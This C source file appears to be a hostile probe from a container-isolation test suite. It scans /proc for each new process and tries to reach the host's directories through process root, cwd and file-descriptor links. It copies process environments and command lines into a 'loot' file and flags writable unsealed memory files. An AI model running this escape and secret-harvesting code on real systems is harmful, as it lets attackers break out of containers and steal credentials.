/* hold BAIT: looks at each process that appears in the pod, and tries to reach the host's directory
   BAIT by everything of it that leads to files. */
#define _GNU_SOURCE
#include "hostile.h"

#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

static void try_path(const char *path, const char *bait) {
  int dir = open(path, O_RDONLY | O_DIRECTORY);
  if (dir < 0) return;
  reach(dir, bait);
  close(dir);
}

/* Looks for the secret in a process's text, which may come from its caller. */
static void try_text(const char *path) {
  static char text[65536];
  int file = open(path, O_RDONLY);
  if (file < 0) return;
  ssize_t size = read(file, text, sizeof text);
  close(file);
  int loot = size > 0 ? open(SPOILS "/loot", O_WRONLY | O_CREAT | O_APPEND, 0666) : -1;
  if (loot < 0) return;
  if (write(loot, text, size) != size) perror("loot");
  close(loot);
}

/* Checks whether a file in memory, which may hold what a process is about to do, can be changed. */
static void try_memory_file(const char *path) {
  int file = open(path, O_RDWR | O_NONBLOCK);
  if (file < 0) return;
  int seals = fcntl(file, F_GET_SEALS);
  if (seals >= 0 && (seals & F_SEAL_WRITE) == 0) close(open(SPOILS "/list", O_CREAT | O_WRONLY, 0666));
  close(file);
}

static void try_descriptors(int pid, const char *bait) {
  char path[64];
  for (int fd = 0; fd < 64; fd++) {
    snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
    try_path(path, bait);
    try_memory_file(path);
  }
}

static void try_process(int pid, const char *bait) {
  char path[64];
  static const char *const DIRECTORIES[] = {"root", "cwd"};
  static const char *const TEXTS[] = {"environ", "cmdline"};
  for (unsigned i = 0; i < 2; i++) {
    snprintf(path, sizeof path, "/proc/%d/%s", pid, DIRECTORIES[i]);
    try_path(path, bait);
  }
  try_descriptors(pid, bait);
  for (unsigned i = 0; i < 2; i++) {
    snprintf(path, sizeof path, "/proc/%d/%s", pid, TEXTS[i]);
    try_text(path);
  }
}

int hold_processes(int argc, char **argv) {
  if (argc != 2) return 2;
  try_process(1, argv[1]);
  puts("up");
  for (;;) {
    int last = last_pid();
    char path[64];
    for (int k = 0; k < 20000; k++)
      for (int i = 1; i <= 2; i++) {
        snprintf(path, sizeof path, "/proc/%d", last + i);
        if (access(path, F_OK) == 0) try_process(last + i, argv[1]);
      }
  }
}
